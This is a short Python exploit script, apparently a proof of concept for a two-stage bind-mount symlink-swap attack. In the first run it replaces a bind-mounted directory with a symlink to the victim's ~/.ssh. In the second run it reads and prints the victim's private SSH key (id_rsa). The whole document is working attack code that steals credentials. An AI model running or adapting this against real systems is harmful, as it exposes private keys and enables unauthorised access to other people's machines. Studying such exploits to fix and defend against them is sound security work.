# bind-symlink-swap (Python): run 1 swaps the bind's parent directory for a
# symlink (raw -> the victim's ~/.ssh); run 2 reads what got mounted.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

w = T["T_WORK"]
if T["T_STAGE"] == "1":
    os.makedirs(os.path.join(w, ".swap"), exist_ok=True)
    os.symlink(os.path.join(T["T_HOME"], ".ssh"), os.path.join(w, ".swap", "raw"))
    os.rename(os.path.join(w, "data"), os.path.join(w, "data.orig"))
    os.symlink(".swap", os.path.join(w, "data"))
    print("swapped")
else:
    for p in ("/data/id_rsa", os.path.join(w, "data", "raw", "id_rsa")):
        try:
            print(open(p).read())
        except OSError as e:
            print(p, e)
